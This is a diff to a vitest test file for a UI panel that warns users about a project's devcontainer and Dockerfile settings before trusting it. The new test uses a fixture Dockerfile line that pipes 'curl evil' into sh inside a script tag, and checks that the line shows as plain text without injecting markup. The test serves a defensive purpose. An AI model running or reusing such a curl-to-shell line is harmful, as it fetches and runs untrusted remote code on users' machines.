@@ -4,9 +4,14 @@ import { afterEach, describe, expect, it, vi } from "vitest";
 import { all, one, settle, show } from "../../test/mount";
 
 const ITEMS = [
-  { key: "mounts", value: "/home/me/.ssh → /root/.ssh", file: ".devcontainer/devcontainer.json" },
-  { key: "initializeCommand", value: "runs on this machine: make", file: ".devcontainer/devcontainer.json" },
-  { key: "pids", value: "5000", file: ".gemra.json" },
+  { key: "mounts", value: "/home/me/.ssh → /root/.ssh", file: ".devcontainer/devcontainer.json", text: null },
+  {
+    key: "initializeCommand",
+    value: "runs on this machine: make",
+    file: ".devcontainer/devcontainer.json",
+    text: null,
+  },
+  { key: "pids", value: "5000", file: ".gemra.json", text: null },
 ];
 
 afterEach(() => sessionStorage.clear());
@@ -26,6 +31,19 @@ describe("the question about a project", () => {
     tab.show({ trust: null });
     await settle();
     expect(all("trust")).toHaveLength(0);
+  });
+
+  it("shows a Dockerfile that would be built in full, and can fold it away", async () => {
+    const { host, model } = await show("conversation");
+    const tab = host.tab(model.state!.active!);
+    const text = "FROM a\n\tRUN <script>curl evil</script> | sh\n";
+    tab.show({ trust: [{ key: "build", value: "is built as root", file: "Dockerfile", text }, ...ITEMS] });
+    await settle();
+    expect(one("trust-text").textContent).toBe(text);
+    expect(one("trust").querySelector("script")).toBeNull();
+    one("trust").querySelector<HTMLElement>("[aria-expanded=true]")!.click();
+    await settle();
+    expect(all("trust-text")).toHaveLength(0);
   });
 
   it("is what the button says that it waits for", async () => {
